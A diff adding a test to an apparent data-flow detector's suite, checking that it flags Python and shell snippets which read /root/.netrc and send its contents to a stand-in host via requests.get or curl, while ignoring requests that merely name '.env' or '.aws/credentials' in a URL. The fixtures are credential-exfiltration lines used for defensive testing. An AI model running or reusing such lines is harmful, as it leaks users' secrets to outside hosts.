@@ -63,3 +63,16 @@ it("says each flow once, however often a step is looked at", () => {
 it("ends for routines that call each other", () => {
   expect(flows({ "a.py": "def a(x):\n    return b(x)\ndef b(x):\n    return a(x + 'y')\na(b('z'))\n" })).toEqual([]);
 });
+
+it("tells a file's name in an address from what is in the file", () => {
+  const probe =
+    "from urllib.parse import urljoin\nimport requests\nfor name in ['.env', '.aws/credentials']:\n    requests.get(urljoin(base, name))\n    requests.get(f'https://a.example/{name}')\n";
+  expect(flows({ "a.py": probe })).toEqual([]);
+  expect(flows({ "a.sh": 'for f in x ~/.aws/credentials; do curl "https://a.example/$f"; done\n' })).toEqual([]);
+  for (const [path, text] of [
+    ["a.py", "import requests\nd = open('/root/.netrc').read()\nrequests.get('https://a.example/' + d)\n"],
+    ["b.py", "import requests\nd = ''\nd += open('/root/.netrc').read()\nrequests.get(f'https://a.example/{d}')\n"],
+    ["c.sh", 'f=~/.netrc\nf=$(cat $f)\ncurl "https://a.example/$f"\n'],
+  ] as const)
+    expect(flows({ [path]: text }), path).not.toEqual([]);
+});
